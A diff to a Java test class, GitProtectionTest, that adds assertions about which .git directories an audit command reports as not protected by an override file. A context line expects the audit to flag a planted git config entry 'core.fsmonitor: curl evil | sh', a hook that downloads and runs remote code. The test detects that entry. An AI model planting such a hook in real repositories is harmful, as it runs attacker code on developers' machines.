@@ -257,6 +257,16 @@ class GitProtectionTest {
         Commands.Result changed = audit();
         assertThat(changed.exitCode()).as(changed.output()).isEqualTo(1);
         assertThat(changed.output()).contains("1 new").contains("new    later/.git/config: core.fsmonitor: curl evil | sh");
+
+        // With the override protect-git.sh wrote (make audit gives it make up's): what it protected
+        // is not named, what was made since is (a config there can be swapped in only while git reads it).
+        Commands.Result unprotected = audit("--protected", deployment.gitOverride().toString());
+        assertThat(unprotected.exitCode()).as(unprotected.output()).isEqualTo(1);
+        assertThat(unprotected.output()).contains("new    later/.git: not protected by make up",
+                "new    projects/existing/vendor/nested/.git: not protected by make up")
+                .doesNotContain("projects/existing/.git: not protected")
+                .doesNotContain("projects/existing/.git/modules/lib: not protected")
+                .doesNotContain("projects/lib/.git: not protected");
     }
 
     /**
